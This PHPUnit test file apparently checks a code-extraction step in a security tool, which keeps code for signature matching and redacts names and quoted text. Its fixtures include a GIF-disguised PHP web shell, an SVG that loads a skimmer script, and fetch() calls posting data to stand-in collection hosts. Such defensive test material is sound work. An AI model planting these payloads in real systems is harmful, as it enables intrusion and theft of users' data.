<?php

declare(strict_types=1);

namespace Tourniquet\Unit\Observe;

use PHPUnit\Framework\TestCase;
use Tourniquet\Observe\CodeSample;

final class CodeSampleTest extends TestCase
{
    public function testCodeStaysAsSignaturesKnowIt(): void
    {
        self::assertSame('<?php echo 1;', CodeSample::of('a.php', '<?php echo 1;'));
        self::assertSame('<?php @eval($_POST["cmd"]); system(\'id\');', CodeSample::of('a.php', "GIF89a<?php @eval(\$_POST[\"cmd\"]); system('id');"));
        self::assertSame('<script src="https://cdn.example/skim.js"></script>', CodeSample::of('a.svg', '<svg><text>Jane Roe</text><script src="https://cdn.example/skim.js"></script></svg>'));
        self::assertSame("fetch('//collect.example/x', {method: 'post'})", CodeSample::of('a.js', "fetch('//collect.example/x', {method: 'post'})"));
    }

    public function testTextAroundItCommentsAndQuotedTextsAreLeftOut(): void
    {
        self::assertSame('', CodeSample::of('list.html', '<p>Jane Roe, 5 Main Street</p>'));
        self::assertSame("<?php \$a = '[8]';  \$b = \"[20]\";", CodeSample::of('a.php', "Jane Roe <?php \$a = 'Jane Roe'; /* by Jane */ \$b = \"said: \\\"Jane Roe\\\" x\";"));
        self::assertSame("var c = ['[4]', '[11]']; \n", CodeSample::of('c.js', "var c = ['Jane', 'Springfield']; // of Jane Roe\n"));
        self::assertSame("fetch('https://collect.example/x?[12]')", CodeSample::of('a.js', "fetch('https://collect.example/x?token=tulips')"));
        self::assertStringNotContainsString('Roe', CodeSample::of('a.php', "<?php \$a = 'Jane Roe"));
    }
}
